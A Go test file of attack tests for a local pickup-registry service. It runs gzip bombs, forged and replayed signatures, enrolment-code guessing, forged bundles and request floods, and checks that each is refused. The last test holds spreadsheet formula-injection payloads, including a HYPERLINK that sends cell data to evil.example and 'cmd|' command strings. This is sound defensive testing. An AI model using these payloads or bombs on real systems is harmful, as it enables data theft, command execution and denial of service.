package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pickup-terminal/pickup"
	"github.com/pickup-terminal/pickup/internal/memstat"
	"github.com/pickup-terminal/pickup/sync/protocol"
	"github.com/pickup-terminal/pickup/sync/registry/registrytest"
)

// Attacks on a real registry process on 127.0.0.1, as an outsider and as
// a stolen terminal would make them (issue 9). Each test is named after
// what it attacks.

// attackRig is a serving registry with two centres, 40 requests each,
// and one enrolled terminal per centre.
type attackRig struct {
	dir  string
	srv  *proc
	a, g *protocol.Client // namur, gent
}

func newAttackRig(t *testing.T) *attackRig {
	t.Helper()
	dir, files := t.TempDir(), t.TempDir()
	for _, args := range [][]string{
		{"centre", "add", "--data", dir, "--id", "namur", "--name", "Croix-Rouge Namur"},
		{"centre", "add", "--data", dir, "--id", "gent", "--name", "Rode Kruis Gent"},
		{"request", "import", "--data", dir, "--campaign", pickup.DefaultCampaignID, registrytest.WriteFile(t, files, "r.csv", requestsCSV(80))},
	} {
		if code, out := sub(t, args...); code != 0 {
			t.Fatalf("%v = %d: %s", args, code, out)
		}
	}
	r := &attackRig{dir: dir, srv: serve(t, dir)}
	r.a, _ = enrolOver(t, r.srv.url, "", enrolCode(t, dir, "namur"))
	r.g, _ = enrolOver(t, r.srv.url, "", enrolCode(t, dir, "gent"))
	return r
}

// gzipBomb is a gzip stream of n spaces (32 MiB make about 32 KB).
func gzipBomb(n int) []byte {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	chunk := bytes.Repeat([]byte(" "), 1<<20)
	for n > 0 {
		k := min(n, len(chunk))
		zw.Write(chunk[:k])
		n -= k
	}
	zw.Close()
	return b.Bytes()
}

// rawExchange writes head and the first part of a body on a bare
// connection, and returns the status line the registry answers before the
// rest of the body is sent (or an error after guard: a hang, not a timing
// assertion).
func rawExchange(t *testing.T, base, head string, part []byte, guard time.Duration) (string, error) {
	t.Helper()
	u, _ := url.Parse(base)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, head); err != nil {
		t.Fatal(err)
	}
	conn.Write(part)
	conn.SetReadDeadline(time.Now().Add(guard))
	return bufio.NewReader(conn).ReadString('\n')
}

// TestH1UnauthenticatedPushAnsweredBeforeItsBody: a push without valid
// credentials — no header, a made-up terminal, a real terminal's id with a
// wrong signature — is refused from its headers: the registry answers
// while the (32 KB gzip bomb) body is still being sent, without reading it.
func TestH1UnauthenticatedPushAnsweredBeforeItsBody(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	bomb := gzipBomb(32 << 20)
	good := r.a.Creds
	forged := good
	forged.Secret = []byte("not the terminal's secret, 32 b")
	stranger := protocol.Credentials{TerminalID: "term-NOTENROLLED", CentreID: "namur", Secret: good.Secret}
	auth := func(c protocol.Credentials) string {
		req, _ := http.NewRequest("POST", r.srv.url+protocol.PathPush, nil)
		protocol.SignRequest(req, c, time.Now(), nil, bomb)
		return "Authorization: " + req.Header.Get("Authorization") + "\r\n" +
			protocol.HeaderBodySHA256 + ": " + req.Header.Get(protocol.HeaderBodySHA256) + "\r\n"
	}
	for _, tc := range []struct{ name, auth, want string }{
		{"no credentials", "", "401"},
		{"unknown terminal", auth(stranger), "401"},
		{"wrong secret", auth(forged), "401"},
	} {
		head := "POST /v1/push HTTP/1.1\r\nHost: registry\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n" +
			"Content-Length: " + strconv.Itoa(len(bomb)) + "\r\n" + tc.auth + "\r\n"
		line, err := rawExchange(t, r.srv.url, head, bomb[:1024], 20*time.Second)
		if err != nil || !strings.Contains(line, " "+tc.want+" ") {
			t.Errorf("%s: answered %q, %v before the body ended; want %s at once", tc.name, line, err, tc.want)
		}
	}
}

// TestH1EnrolGzipBombRefusedSmall: enrolment is unauthenticated, so its
// body is bounded decompressed as well as on the wire (it was 32 MiB once
// gunzipped).
func TestH1EnrolGzipBombRefusedSmall(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	bomb := gzipBomb(8 << 20) // about 8 KB on the wire
	req, _ := http.NewRequest("POST", r.srv.url+protocol.PathEnrol, bytes.NewReader(bomb))
	req.Header.Set("Content-Type", protocol.ContentType)
	req.Header.Set("Content-Encoding", "gzip")
	if status, code := send(t, req); code != protocol.CodeTooLarge {
		t.Errorf("enrol with a gzip bomb: %d %s, want too_large", status, code)
	}
}

// TestH1StolenTerminalBodyLimits: with real credentials, a push whose body
// does not match its signed hash is refused, and one that decompresses
// beyond what 5,000 events can take is refused too large.
func TestH1StolenTerminalBodyLimits(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	body := gzipBomb(20 << 20)
	rq := rawSigned(t, r.srv.url, r.a.Creds, protocol.PathPush, body, time.Now())
	if status, code := send(t, rq); code != protocol.CodeTooLarge {
		t.Errorf("signed push of 20 MiB decompressed: %d %s, want too_large", status, code)
	}
	rq = rawSigned(t, r.srv.url, r.a.Creds, protocol.PathPush, protocol.Gzip([]byte(`{"events":[]}`)), time.Now())
	rq.body = protocol.Gzip([]byte(`{"events":[{}]}`))
	if status, code := send(t, rq); code != protocol.CodeBadSignature {
		t.Errorf("body swapped after signing: %d %s, want invalid_signature", status, code)
	}
}

// TestH5SignedGetReplayedAfterRestart: a captured signed GET is refused
// after the registry restarts (its nonce memory is gone, but not the rule
// that a request must be signed after the start).
func TestH5SignedGetReplayedAfterRestart(t *testing.T) {
	r := newAttackRig(t)
	req, _ := http.NewRequest("GET", r.srv.url+protocol.PathDigest, nil)
	if err := protocol.SignRequest(req, r.a.Creds, time.Now(), nil, nil); err != nil {
		t.Fatal(err)
	}
	again := func() *http.Request {
		c, _ := http.NewRequest("GET", r.srv.url+protocol.PathDigest, nil)
		c.Header = req.Header.Clone()
		return c
	}
	if status, code := send(t, again()); status != 200 {
		t.Fatalf("first signed GET: %d %s", status, code)
	}
	if _, code := send(t, again()); code != protocol.CodeReplayed {
		t.Errorf("replayed GET: %s, want replayed", code)
	}
	r.srv.stop(t)
	u, _ := url.Parse(r.srv.url)
	r.srv = serve(t, r.dir, "--listen", u.Host)
	if status, code := send(t, again()); status == 200 || (code != protocol.CodeClockSkew && code != protocol.CodeReplayed) {
		t.Errorf("GET replayed after a restart: %d %s, want refused", status, code)
	}
	// An honest client is not bothered: it signs anew.
	if _, err := r.a.Digest(context.Background()); err != nil {
		t.Errorf("honest digest after restart: %v", err)
	}
}

// TestEnrolmentGuessesRateLimited: guessing enrolment codes from one
// address is stopped after a few tries, with one log line for the burst;
// a real code from another address still enrols.
func TestEnrolmentGuessesRateLimited(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	c, _ := protocol.NewClient(r.srv.url, protocol.Credentials{}, "")
	var refused, limited int
	for i := 0; i < 40; i++ {
		tok, _ := protocol.NewEnrolmentToken(nil)
		rid, _ := protocol.NewRequestID(nil)
		_, err := c.Enrol(context.Background(), protocol.EnrolmentCode{Token: tok}.String(), rid, "guess", "x")
		switch {
		case err == nil:
			t.Fatal("a guessed enrolment code enrolled")
		case strings.Contains(err.Error(), "too many failed enrolment attempts"):
			limited++
		default:
			refused++
		}
	}
	if refused > 12 || limited < 25 {
		t.Errorf("40 guesses: %d refused as unknown, %d rate-limited; want at most 12 tried", refused, limited)
	}
	time.Sleep(200 * time.Millisecond) // let the log reach stderr
	if n := strings.Count(r.srv.stderr.String(), "failed enrolment attempts over the limit"); n != 1 {
		t.Errorf("lockout logged %d times, want once per burst; log:\n%s", n, r.srv.stderr)
	}
}

// TestEnrolRetryAfterRevocationRefusedClearly: the same enrolment request
// sent again after its terminal was revoked is refused, not a 500.
func TestEnrolRetryAfterRevocationRefusedClearly(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	code := enrolCode(t, r.dir, "namur")
	c, _ := protocol.NewClient(r.srv.url, protocol.Credentials{}, "")
	rid, _ := protocol.NewRequestID(nil)
	resp, err := c.Enrol(context.Background(), code, rid, "counter", "x")
	if err != nil {
		t.Fatal(err)
	}
	if code, out := sub(t, "terminal", "revoke", "--data", r.dir, resp.TerminalID); code != 0 {
		t.Fatalf("revoke: %s", out)
	}
	_, err = c.Enrol(context.Background(), code, rid, "counter", "x")
	var pe *protocol.Error
	if !asProtocolError(err, &pe) || pe.Code != protocol.CodeEnrolmentRefused || !strings.Contains(pe.Message, "revoked") {
		t.Errorf("retried enrolment after revocation: %v, want enrolment_refused saying revoked", err)
	}
}

func asProtocolError(err error, pe **protocol.Error) bool {
	for err != nil {
		if e, ok := err.(*protocol.Error); ok {
			*pe = e
			return true
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return false
		}
		err = u.Unwrap()
	}
	return false
}

// BenchmarkGzipBombs128: 128 parallel unauthenticated pushes of a 32 KB
// gzip bomb (32 MiB decompressed) against a real registry; reports the
// serve process's peak RSS (goal ≤ 150 MB).
func BenchmarkGzipBombs128(b *testing.B) {
	dir := b.TempDir()
	if code, out := sub(b, "centre", "add", "--data", dir, "--id", "namur", "--name", "N"); code != 0 {
		b.Fatal(out)
	}
	srv := serve(b, dir)
	bomb := gzipBomb(32 << 20)
	hc := &http.Client{Transport: &http.Transport{MaxConnsPerHost: 0, MaxIdleConnsPerHost: 128}}
	b.ResetTimer()
	for range b.N {
		var wg sync.WaitGroup
		for range 128 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				req, _ := http.NewRequest("POST", srv.url+protocol.PathPush, bytes.NewReader(bomb))
				req.Header.Set("Content-Type", protocol.ContentType)
				req.Header.Set("Content-Encoding", "gzip")
				req.Header.Set("Authorization", "PICKUP-HMAC-SHA256 Terminal=term-ABCDEFGH,Timestamp="+
					strconv.FormatInt(time.Now().UnixMilli(), 10)+",Nonce=AAAAAAAAAAAAAAAAAAAAAA,Signature=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
				if resp, err := hc.Do(req); err == nil {
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
			}()
		}
		wg.Wait()
	}
	b.StopTimer()
	_, peak, err := memstat.Of(srv.cmd.Process.Pid)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportMetric(float64(peak)/1e6, "peak-RSS-MB")
}

// BenchmarkHonestSyncWhileAnotherFloods: an honest terminal's sync (pull
// to the head, a push of 10 handovers, the digest) alone, then while a
// terminal of another centre floods the registry with signed requests
// from 8 goroutines at full speed; reports both times and their ratio
// (goal ≤ 2).
func BenchmarkHonestSyncWhileAnotherFloods(b *testing.B) {
	dir, files := b.TempDir(), b.TempDir()
	if err := os.WriteFile(files+"/r.csv", []byte(requestsCSV(4000)), 0o600); err != nil {
		b.Fatal(err)
	}
	for _, args := range [][]string{
		{"centre", "add", "--data", dir, "--id", "namur", "--name", "N"},
		{"centre", "add", "--data", dir, "--id", "gent", "--name", "G"},
		{"request", "import", "--data", dir, "--campaign", pickup.DefaultCampaignID, files + "/r.csv"},
	} {
		if code, out := sub(b, args...); code != 0 {
			b.Fatalf("%v = %d: %s", args, code, out)
		}
	}
	srv := serve(b, dir)
	enrol := func(centre string) *protocol.Client {
		code, out := sub(b, "terminal", "enrol", "--data", dir, "--centre", centre)
		if code != 0 {
			b.Fatal(out)
		}
		c, _ := protocol.NewClient(srv.url, protocol.Credentials{}, "")
		rid, _ := protocol.NewRequestID(nil)
		if _, err := c.Enrol(context.Background(), strings.TrimSpace(strings.Fields(out)[len(strings.Fields(out))-1]), rid, "b", "b"); err != nil {
			b.Fatal(err)
		}
		return c
	}
	honest, flooder := enrol("gent"), enrol("namur")
	ctx := context.Background()
	var codes []pickup.Code
	syncOnce := func() time.Duration {
		start := time.Now()
		var ds string
		var after int64
		for {
			p, err := honest.Pull(ctx, protocol.PullRequest{DatasetID: ds, After: after})
			if err != nil {
				b.Fatal(err)
			}
			if codes == nil {
				for _, r := range p.Pickups {
					codes = append(codes, r.Code)
				}
			}
			ds, after = p.DatasetID, p.Cursor
			if !p.More {
				break
			}
		}
		var evs []pickup.Event
		for range 10 {
			id, _ := protocol.NewRequestID(nil)
			evs = append(evs, pickup.Event{ID: id, Type: pickup.EventHandover, TerminalID: honest.Creds.TerminalID,
				CentreID: honest.Creds.CentreID, At: time.Now(), Code: codes[0], GloveSize: "M",
				Items: []pickup.Line{{Item: "gloves", Size: "M", Qty: 500}}})
			codes = codes[1:]
		}
		if _, err := honest.Push(ctx, &protocol.PushRequest{Events: evs}); err != nil {
			b.Fatal(err)
		}
		if _, err := honest.Digest(ctx); err != nil {
			b.Fatal(err)
		}
		return time.Since(start)
	}
	median := func(n int) time.Duration {
		var ds []time.Duration
		for range n {
			ds = append(ds, syncOnce())
		}
		slices.Sort(ds)
		return ds[len(ds)/2]
	}
	syncOnce() // warm up
	b.ResetTimer()
	var quiet, loud time.Duration
	var floods int64
	var mu sync.Mutex
	for range b.N {
		quiet = median(5)
		stop := make(chan struct{})
		var wg sync.WaitGroup
		for range 8 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					select {
					case <-stop:
						return
					default:
					}
					flooder.Digest(ctx)
					mu.Lock()
					floods++
					mu.Unlock()
				}
			}()
		}
		time.Sleep(time.Second)
		loud = median(5)
		close(stop)
		wg.Wait()
	}
	b.StopTimer()
	b.ReportMetric(float64(quiet.Milliseconds()), "quiet-ms")
	b.ReportMetric(float64(loud.Milliseconds()), "flooded-ms")
	b.ReportMetric(float64(loud)/float64(quiet), "ratio")
	b.ReportMetric(float64(floods), "flood-requests")
}

// forgedFactsBundle writes a facts bundle naming creds' terminal but
// signed with another secret: records of 1,000 handovers each until it is
// about size bytes on disk.
func forgedFactsBundle(t testing.TB, path string, creds protocol.Credentials, dataset string, code pickup.Code, size int64) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	bw, err := protocol.NewBundleWriter(f, protocol.BundleHeader{Kind: protocol.BundleFacts, ID: "0b6d2f52-7b8e-4c1a-9a43-2f0f3b1e9a01",
		DatasetID: dataset, CentreID: creds.CentreID, TerminalID: creds.TerminalID, CreatedAt: time.Now().UTC()})
	if err != nil {
		t.Fatal(err)
	}
	evs := make([]pickup.Event, 1000)
	for i := range evs {
		id, _ := protocol.NewRequestID(nil)
		evs[i] = pickup.Event{ID: id, Type: pickup.EventHandover, TerminalID: creds.TerminalID, CentreID: creds.CentreID,
			At: time.Now().UTC(), Code: code, GloveSize: "M", Volunteer: strings.Repeat("v", 200)}
	}
	for {
		if fi, _ := f.Stat(); fi.Size() >= size {
			break
		}
		if err := bw.Push(&protocol.PushRequest{Events: evs}); err != nil {
			t.Fatal(err)
		}
	}
	if err := bw.Close(protocol.HMACSigner(creds.TerminalID, []byte("not the terminal's secret"))); err != nil {
		t.Fatal(err)
	}
}

// maxRSS runs a pickup-registry subcommand and returns its exit code,
// output and peak resident set in bytes.
func maxRSS(t testing.TB, args ...string) (int, string, int64) {
	t.Helper()
	cmd := selfCmd(args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if err != nil {
		code = cmd.ProcessState.ExitCode()
	}
	return code, out.String(), memstat.PeakOf(cmd.ProcessState)
}

// TestForgedFactsBundleRefusedWhole: a forged 2.5 MB facts bundle (a
// stolen terminal's id, not its secret) is refused, nothing recorded.
func TestForgedFactsBundleRefusedWhole(t *testing.T) {
	t.Parallel()
	r := newAttackRig(t)
	codes, _, ds := codesOf(t, r.a)
	var code pickup.Code
	for c := range codes {
		code = c
	}
	path := filepath.Join(t.TempDir(), "forged.bundle")
	forgedFactsBundle(t, path, r.a.Creds, ds, code, 2500<<10)
	exit, out, rss := maxRSS(t, "bundle", "import", "--data", r.dir, path)
	t.Logf("forged bundle: exit %d, peak RSS %.1f MB: %s", exit, float64(rss)/1e6, strings.TrimSpace(out))
	if exit != 1 || !strings.Contains(out, "refused") {
		t.Errorf("forged bundle import: exit %d: %s; want refused", exit, out)
	}
	if rep := report(t, r.dir); rep.Centres[0].Handovers+rep.Centres[1].Handovers != 0 {
		t.Errorf("a forged bundle recorded handovers: %+v", rep)
	}
}

// BenchmarkForgedFactsBundleImport: peak RSS of `pickup-registry bundle
// import` refusing a forged 2.5 MB facts bundle (goal ≤ 64 MB).
func BenchmarkForgedFactsBundleImport(b *testing.B) {
	dir := b.TempDir()
	if code, out := sub(b, "centre", "add", "--data", dir, "--id", "namur", "--name", "N"); code != 0 {
		b.Fatal(out)
	}
	srv := serve(b, dir)
	code, out := sub(b, "terminal", "enrol", "--data", dir, "--centre", "namur", "--json")
	var v map[string]string
	if code != 0 || json.Unmarshal([]byte(out), &v) != nil {
		b.Fatal(out)
	}
	c, _ := protocol.NewClient(srv.url, protocol.Credentials{}, "")
	rid, _ := protocol.NewRequestID(nil)
	en, err := c.Enrol(context.Background(), v["enrolment_code"], rid, "b", "b")
	if err != nil {
		b.Fatal(err)
	}
	path := filepath.Join(b.TempDir(), "forged.bundle")
	pc, _ := pickup.NewCode(nil)
	forgedFactsBundle(b, path, en.Credentials(), en.DatasetID, pc, 2500<<10)
	b.ResetTimer()
	var rss int64
	for range b.N {
		exit, out, r := maxRSS(b, "bundle", "import", "--data", dir, path)
		if exit != 1 {
			b.Fatalf("forged bundle: exit %d: %s", exit, out)
		}
		rss = max(rss, r)
	}
	b.ReportMetric(float64(rss)/1e6, "peak-RSS-MB")
}

// TestCodesCSVFormulaInjectionEscaped: `codes` writes a name that a
// spreadsheet would run (=HYPERLINK, +cmd|, @SUM) escaped, and the
// terminal's reader gets the name back as it was.
func TestCodesCSVFormulaInjectionEscaped(t *testing.T) {
	t.Parallel()
	dir, files := t.TempDir(), t.TempDir()
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
	csv := "professional_id,name,profession,centre_id\n"
	for i, n := range names {
		csv += fmt.Sprintf("p-%d,\"%s\",nurse,namur\n", i, strings.ReplaceAll(n, `"`, `""`))
	}
	for _, args := range [][]string{
		{"centre", "add", "--data", dir, "--id", "namur", "--name", "Namur"},
		{"request", "import", "--data", dir, "--campaign", pickup.DefaultCampaignID, registrytest.WriteFile(t, files, "r.csv", csv)},
	} {
		if code, out := sub(t, args...); code != 0 {
			t.Fatalf("%v = %d: %s", args, code, out)
		}
	}
	code, out := sub(t, "codes", "--data", dir, "--centre", "namur")
	if code != 0 {
		t.Fatalf("codes: %s", out)
	}
	for _, line := range strings.Split(out, "\n")[1:] {
		f := strings.SplitN(line, ",", 3)
		if len(f) > 1 && strings.ContainsAny(strings.TrimPrefix(f[1], `"`)[:1], "=+-@") {
			t.Errorf("codes wrote a formula: %s", line)
		}
	}
	got := map[string]bool{}
	if err := pickup.ReadPickupCSV(strings.NewReader(out), func(_ int, p pickup.Pickup) error { got[p.Name] = true; return nil }); err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		if !got[n] {
			t.Errorf("name %q not read back as it was (%v)", n, got)
		}
	}
}
